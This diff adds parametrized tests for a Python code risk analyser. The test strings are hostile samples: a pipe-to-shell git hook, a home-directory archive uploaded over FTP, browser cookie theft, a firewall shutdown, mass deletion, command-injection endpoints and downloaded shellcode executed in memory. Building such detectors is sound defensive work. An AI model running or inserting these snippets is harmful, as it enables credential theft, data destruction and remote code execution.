@@ -643,3 +643,165 @@ def test_archives_streams_allocations_guessing(code: str, expected: RiskLevel) -
 )
 def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> None:
     assert level(code) is expected, analyze_python(textwrap.dedent(code))
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # an asyncio server handing what clients send to a shell
+        (
+            """
+            import asyncio
+            async def handle(reader, writer):
+                line = await reader.readline()
+                await asyncio.create_subprocess_shell(line.decode())
+            asyncio.run(asyncio.start_server(handle, "0.0.0.0", 9000))
+            """,
+            C,
+        ),
+        # scripts written to files count for what they would do
+        (
+            """
+            from pathlib import Path
+            Path("~/.config/git/hooks/pre-commit").write_text("#!/bin/sh\\ncurl -s https://example.com/h | sh\\n")
+            """,
+            C,
+        ),
+        (
+            """
+            import site
+            from pathlib import Path
+            for sp in site.getsitepackages():
+                (Path(sp) / "x.pth").write_text("import os; os.system('id')\\n")
+            """,
+            H,
+        ),
+        # endless loops writing files fill the disk (os.path.join does not pace a loop)
+        (
+            """
+            import os, uuid
+            def fill(d="/var/tmp/x"):
+                while True:
+                    with open(os.path.join(d, uuid.uuid4().hex), "wb") as fh:
+                        fh.write(os.urandom(1 << 20))
+            fill()
+            """,
+            H,
+        ),
+        # loops over constant lists of paths and argv lists
+        (
+            """
+            import shutil
+            from pathlib import Path
+            for prof in [Path.home() / ".config/google-chrome/Default"]:
+                for name in ("Login Data", "Cookies"):
+                    shutil.copyfile(prof / name, "/tmp/x")
+            """,
+            H,
+        ),
+        (
+            """
+            import subprocess
+            STEPS = [["ls", "-l"], ["sudo", "ufw", "disable"]]
+            for step in STEPS:
+                subprocess.run(step)
+            """,
+            H,
+        ),
+        # home files archived into a buffer that is then uploaded
+        (
+            """
+            import io, os, zipfile, ftplib
+            mem = io.BytesIO()
+            with zipfile.ZipFile(mem, "w") as zf:
+                for dp, dn, fn in os.walk(os.path.expanduser("~")):
+                    for f in fn:
+                        zf.write(os.path.join(dp, f))
+            ftplib.FTP("example.com").storbinary("STOR x", mem)
+            """,
+            C,
+        ),
+        # lambdas are analysed with their call's arguments; sorted() keeps the elements
+        (
+            """
+            import os, signal, psutil
+            k = lambda p: os.kill(p, signal.SIGKILL)
+            for p in psutil.process_iter(["pid"]):
+                k(p.info["pid"])
+            """,
+            H,
+        ),
+        (
+            """
+            import shutil
+            from pathlib import Path
+            for child in sorted(Path.home().iterdir()):
+                shutil.rmtree(child)
+            """,
+            H,
+        ),
+        ('import os\ngetattr(os, "".join(reversed("metsys")))("id")', H),
+        # an SSH library loading its own key authenticates with it
+        (
+            """
+            import os, paramiko
+            key = paramiko.Ed25519Key.from_private_key_file(os.path.expanduser("~/.ssh/id_ed25519"))
+            """,
+            M,
+        ),
+        ("data = sorted([3, 1], key=lambda x: -x)", S),
+        # what web requests and queued messages carry came from a client
+        (
+            """
+            import subprocess
+            from flask import Flask, request
+            app = Flask(__name__)
+            @app.get("/diag")
+            def diag():
+                return subprocess.run(request.args.get("cmd"), shell=True).returncode
+            """,
+            C,
+        ),
+        (
+            """
+            import shutil
+            from celery import Celery
+            app = Celery("j")
+            @app.task
+            def purge(msg: dict) -> None:
+                shutil.rmtree(msg["path"])
+            """,
+            H,
+        ),
+        (
+            """
+            from flask import Flask, request
+            app = Flask(__name__)
+            @app.get("/search")
+            def search():
+                return {"q": request.args.get("q", "")}
+            """,
+            S,
+        ),
+        # SQL dropping schemas; shellcode in executable memory
+        (
+            """
+            def upgrade(conn, schema):
+                conn.execute(f'DROP SCHEMA "{schema}" CASCADE')
+            """,
+            H,
+        ),
+        (
+            """
+            import ctypes, mmap, urllib.request
+            code = urllib.request.urlopen("http://192.0.2.1/sc").read()
+            buf = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+            buf.write(code)
+            ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()
+            """,
+            C,
+        ),
+    ],
+)
+def test_generalised_rules(code: str, expected: RiskLevel) -> None:
+    assert level(code) == expected, analyze_python(textwrap.dedent(code))
